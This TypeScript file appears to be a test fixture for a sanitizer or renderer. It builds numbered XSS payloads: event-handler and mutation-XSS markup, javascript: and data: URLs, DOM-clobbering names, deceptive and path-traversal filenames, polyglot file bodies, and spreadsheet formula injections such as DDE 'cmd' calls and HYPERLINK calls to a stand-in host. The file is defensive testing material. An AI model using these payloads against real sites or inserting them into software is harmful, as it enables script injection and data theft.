// Words that try to become something else in a browser. Each that succeeds reports its own number to `top.hits`, calls for a dialog, or
// asks elsewhere for something; each carries a mark by which it is seen to be on the page. Who looks at what happens: hostile-eyes.ts.

/** `words` is one line; `mark` is a part of it that is there to read if it was shown. */
export type Hostile = { words: string; mark: string };

export const elsewhere = 'https://elsewhere.invalid/hostile';
/** How names begin that must not be found as names of elements. */
export const clobber = 'hits';

type Make = (run: string, mark: string) => string;

const events: Make[] = [
  (run, mark) => `<img src=x onerror=${run}>${mark}`,
  (run, mark) => `<IMG SRC="x" ONERROR="${run}">${mark}`,
  (run, mark) => `<img/src='x'/onerror='${run}'/>${mark}`,
  (run, mark) => `<img src=x onerror&#61;${run} onerror=${run}>${mark}`,
  (run, mark) => `<img src=x onerror=${asEntities(run)}>${mark}`,
  (run, mark) => `<img src=x:x onerror=${asHex(run)}>${mark}`,
  (run, mark) => `"><img src=x onerror=${run}>${mark}`,
  (run, mark) => `'><img src=x onerror=${run}>${mark}`,
  (run, mark) => `\`><img src=x onerror=${run}>${mark}`,
  (run, mark) => `</p></div></title></textarea></style></script><img src=x onerror=${run}>${mark}`,
  (run, mark) => `--><img src=x onerror=${run}><!--${mark}`,
  (run, mark) => `]]><img src=x onerror=${run}>${mark}`,
  (run, mark) => `<<img src=x onerror=${run}>>${mark}`,
  (run, mark) => `<img <!-- --> src=x onerror=${run}>${mark}`,
  (run, mark) => `<x<img src=x onerror=${run}>${mark}`,
  (run, mark) => `<img srcset=x onerror=${run}>${mark}`,
  (run, mark) => `<image src=x onerror=${run}>${mark}`,
  (run, mark) => `<picture><source srcset=x><img onerror=${run} src=x></picture>${mark}`,
  (run, mark) => `<video src=x onerror=${run}></video>${mark}`,
  (run, mark) => `<video><source onerror=${run}></video>${mark}`,
  (run, mark) => `<audio src=x onerror=${run}></audio>${mark}`,
  (run, mark) => `<details open ontoggle=${run}>${mark}</details>`,
  (run, mark) => `<body onload=${run}>${mark}`,
  (run, mark) => `<input autofocus onfocus=${run}>${mark}`,
  (run, mark) => `<select autofocus onfocus=${run}></select>${mark}`,
  (run, mark) => `<textarea autofocus onfocus=${run}></textarea>${mark}`,
  (run, mark) => `<a autofocus tabindex=1 onfocus=${run}>${mark}</a>`,
  (run, mark) => `<b contenteditable autofocus onfocus=${run}>${mark}</b>`,
  (run, mark) => `<b onmouseover=${run}>${mark}</b>`,
  (run, mark) => `<b onclick="${run}">${mark}</b>`,
  (run, mark) => `<marquee onstart=${run}>${mark}</marquee>`,
  (run, mark) => `<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=${run}>${mark}</b>`,
  (run, mark) => `<svg onload=${run}></svg>${mark}`,
  (run, mark) => `<svg/onload=${run}//>${mark}`,
  (run, mark) => `<svg><script>${run}</script></svg>${mark}`,
  (run, mark) => `<svg><script href="data:text/javascript,${run}"></script></svg>${mark}`,
  (run, mark) => `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>${mark}`,
  (run, mark) => `<svg><set onbegin=${run} attributeName=x to=y></svg>${mark}`,
  (run, mark) => `<svg><image href=x onerror=${run}></svg>${mark}`,
  (run, mark) => `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>${mark}`,
  (run, mark) => `<svg><style><img src=x onerror=${run}></style></svg>${mark}`,
  (run, mark) => `<svg></p><style><a id="</style><img src=x onerror=${run}>">${mark}`,
  (run, mark) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">${mark}`,
  (run, mark) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>${mark}`,
  (run, mark) => `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>${mark}`,
  (run, mark) => `<noscript><p title="</noscript><img src=x onerror=${run}>">${mark}`,
  (run, mark) => `<xmp><p title="</xmp><img src=x onerror=${run}>">${mark}`,
  (run, mark) => `<title><p title="</title><img src=x onerror=${run}>">${mark}`,
  (run, mark) => `<textarea><p title="</textarea><img src=x onerror=${run}>">${mark}`,
  (run, mark) => `<template><img src=x onerror=${run}></template><img src=x onerror=${run}>${mark}`,
  (run, mark) => `<template shadowrootmode=open><img src=x onerror=${run}></template>${mark}`,
  (run, mark) => `<script>${run}</script>${mark}`,
  (run, mark) => `<ScRiPt >${run}</sCrIpT>${mark}`,
  (run, mark) => `<script/x>${run}</script y>${mark}`,
  (run, mark) => `<scr<script>ipt>${run}</scr</script>ipt>${mark}`,
  (run, mark) => `<script type=module>${run}</script>${mark}`,
  (run, mark) => `<script src="data:text/javascript,${run}"></script>${mark}`,
  (run, mark) => `<script src=${elsewhere}.js></script><img src=x onerror=${run}>${mark}`,
  (run, mark) => `<iframe srcdoc="<script>${run}</script>"></iframe>${mark}`,
  (run, mark) => `<iframe onload=${run}></iframe>${mark}`,
  (run, mark) => `<object data=x onerror=${run}></object>${mark}`,
  (run, mark) => `<embed src=x onload=${run} onerror=${run}>${mark}`,
  (run, mark) => `<link rel=stylesheet href=${elsewhere}.css onerror=${run}>${mark}`,
  (run, mark) => `<style onload=${run}></style>${mark}`,
  (run, mark) => `<p style="background:url(${elsewhere}.png)" onclick=${run}>${mark}</p>`,
  (run, mark) =>
    `<style>*{background:url(${elsewhere}.gif)}@import '${elsewhere}.css'</style><i onclick=${run}>${mark}</i>`,
  (run, mark) => `<meta http-equiv=refresh content="0;url=${elsewhere}"><img src=x onerror=${run}>${mark}`,
  (run, mark) => `<meta http-equiv=Content-Security-Policy content="default-src *"><img src=x onerror=${run}>${mark}`,
  (run, mark) => `<base href=${elsewhere}/><img src=x onerror=${run}>${mark}`,
  (run, mark) => `<form action=${elsewhere}><input name=q onfocus=${run} autofocus><button>${mark}</button></form>`,
  (run, mark) => `<button form=f formaction=javascript:${run}>${mark}</button>`,
  (run, mark) => `<isindex type=image src=1 onerror=${run}>${mark}`,
  (run, mark) => `<dialog open onclose=${run}><b popover onbeforetoggle=${run}>${mark}</b></dialog>`,
  (run, mark) => `<!doctype html><html><body onpageshow=${run}>${mark}`,
];

/** Addresses that run, or lead out without asking. Every one of them is tried in every way to write a link. */
const addresses: ((run: string) => string)[] = [
  (run) => `javascript:${run}`,
  (run) => `JaVaScRiPt:${run}`,
  (run) => `&#106;avascript:${run}`,
  (run) => `&#x6A;&#x61;vascript:${run}`,
  (run) => `javascript&colon;${run}`,
  (run) => `java&Tab;script:${run}`,
  (run) => `java&NewLine;script:${run}`,
  (run) => `java\tscript:${run}`,
  (run) => `&#1;javascript:${run}`,
  (run) => `&#x20;javascript:${run}`,
  (run) => `\u200Bjavascript:${run}`,
  (run) => `javascript://elsewhere.invalid/%0a${run}`,
  (run) => `javascript\\:${run}`,
  (run) => `javascript%3A${run}`,
  (run) => `feed:javascript:${run}`,
  (run) => `view-source:javascript:${run}`,
  (run) => `vbscript:${run}`,
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `data:text/html;base64,${btoa(`<script>${run}</script>`)}`,
  (run) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
  () => `${elsewhere}.png`,
  () => '//elsewhere.invalid/hostile',
  () => String.raw`/\elsewhere.invalid/hostile`,
  () => String.raw`\\elsewhere.invalid\hostile`,
  () => '/api/sessions?hostile',
  () => 'file:///etc/passwd',
  () => 'blob:null/hostile',
];

const links: ((address: string, mark: string) => string)[] = [
  (address, mark) => `<a href="${address}">${mark}</a>`,
  (address, mark) => `[${mark}](${address})`,
  (address, mark) => `[${mark}](<${address}> "title")`,
  (address, mark) => `![${mark}](${address})`,
  (address, mark) => `[![${mark}](${address})](${address})`,
  (address, mark) => `<${address}> ${mark}`,
  (address, mark) =>
    `<iframe src="${address}"></iframe><embed src="${address}"><object data="${address}"></object>${mark}`,
  (address, mark) => `<svg><a xlink:href="${address}" href="${address}"><text>${mark}</text></a></svg>`,
];

const names = ['', 'Cookie', 'body', 'location', 'getElementById', 'cookie', 'trustedTypes', 'app', 'attributes'];
const clobbers: ((name: string, mark: string) => string)[] = [
  (name, mark) => `<img name=${name} id=${name}>${mark}`,
  (name, mark) => `<form id=${name}><input name=${name}><input name=parentNode></form>${mark}`,
  (name, mark) => `<a id=${name}></a><a id=${name} name=${name} href=${elsewhere}>${mark}</a>`,
  (name, mark) => `<iframe name=${name} srcdoc="<a id=${name}>"></iframe>${mark}`,
];

const asEntities = (text: string) => [...text].map((letter) => `&#${letter.charCodeAt(0)}`).join(';');
const asHex = (text: string) => [...text].map((letter) => `&#x${letter.charCodeAt(0).toString(16)};`).join('');

/** All of them, numbered from 0: markup, links, and names that hide those of the page. */
export function hostiles(): Hostile[] {
  const all: Hostile[] = [];
  const add = (make: Make) => {
    const mark = `zq${all.length}qz`;
    all.push({ words: make(`top.hits.push(${all.length})`, mark), mark });
  };
  for (const make of events) add(make);
  for (const address of addresses) for (const link of links) add((run, mark) => link(address(run), mark));
  for (const name of names) for (const make of clobbers) add((_run, mark) => make(name === '' ? clobber : name, mark));
  add((run, mark) => `<img src=x onerror=alert(${run})>${mark}`);
  add((run, mark) => `<img src=x onerror="fetch('${elsewhere}');${run}">${mark}`);
  return all;
}

/** Names of files that lie about what they are, break headers and paths, or are markup. */
export const fileNames = (): string[] => [
  ...[
    '\u202Egpj.exe',
    'invoice\u202Efdp.svg',
    'a\u200Bb\uFEFF.html',
    '\u2066x\u2069.png',
    'con.html',
    'nul',
    '..',
    '....//x',
  ],
  ...[
    '../../etc/passwd',
    String.raw`..\..\boot.ini`,
    '/etc/shadow',
    'a/b/c.html',
    'x.html\u0000.png',
    'x\r\nSet-Cookie: hostile=1',
  ],
  ...[
    'x"; filename="y.html',
    "x'; filename*=UTF-8''y.html",
    'x;.html',
    '%2e%2e%2fx.svg',
    'x%0d%0aX-Hostile: 1.html',
    '.htaccess',
  ],
  ...[
    '"><img src=x onerror=top.hits.push(1)>.png',
    '<script>top.hits.push(2)</script>.html',
    '[x](javascript:top.hits.push(3)).txt',
  ],
  ...[
    '![x](https://elsewhere.invalid/hostile.png)',
    '`x`.svg',
    '=1+1.csv',
    'javascript:top.hits.push(4)',
    '&lt;b&gt;.html',
    'x.svg',
  ],
];

/** Bytes that run where a browser takes them for a page. */
export const fileBodies: readonly (readonly [type: string, bytes: string])[] = [
  ['text/html', '<script>top.hits.push(5)</script>'],
  [
    'image/svg+xml',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="top.hits.push(6)"><script>top.hits.push(7)</script></svg>',
  ],
  ['application/xhtml+xml', '<html xmlns="http://www.w3.org/1999/xhtml"><script>top.hits.push(8)</script></html>'],
  ['text/xml', '<?xml-stylesheet href="https://elsewhere.invalid/hostile.xsl"?><x/>'],
  ['image/png', '<script>top.hits.push(9)</script>'],
  ['text/plain', 'GIF89a<script>top.hits.push(10)</script>'],
];

/** Cells that spreadsheets run. */
export const formulas = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '＝',
  '＋',
  '－',
  '＠',
  '|',
  '%',
  ' =',
  '\u200B=',
  '"=',
  "'=",
  ';=',
].flatMap((sign) => [`${sign}HYPERLINK("${elsewhere}","x")`, `${sign}cmd|' /C calc'!A0`]);
